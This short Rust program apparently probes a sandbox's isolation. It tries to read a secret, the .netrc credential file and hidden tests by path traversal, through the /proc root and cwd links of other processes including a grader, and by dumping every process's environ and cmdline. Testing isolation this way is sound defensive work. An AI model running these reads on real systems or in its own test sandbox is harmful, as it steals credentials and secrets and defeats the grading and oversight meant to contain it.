// Reads the secret, dotfiles, hidden tests and environments: by name, upwards, through every process's root.

use crate::attack::{attempt, look, target};

pub fn main() {
    for name in [target("SECRET"), format!("{}/.netrc", target("HOME")), target("TESTS")] {
        look(&name);
        look(&format!("{}{}", "../".repeat(30), &name[1..]));
        for pid in ["1", "self", &target("PID"), &target("GRADER")] {
            look(&format!("/proc/{pid}/root{name}"));
            look(&format!("/proc/{pid}/cwd/{}{}", "../".repeat(20), &name[1..]));
        }
    }
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        look(&format!("{}/environ", entry.path().display()));
        look(&format!("{}/cmdline", entry.path().display()));
    }
    attempt("list the home folder", std::fs::read_dir(target("HOME")).map(|_| ()));
    println!("done");
}
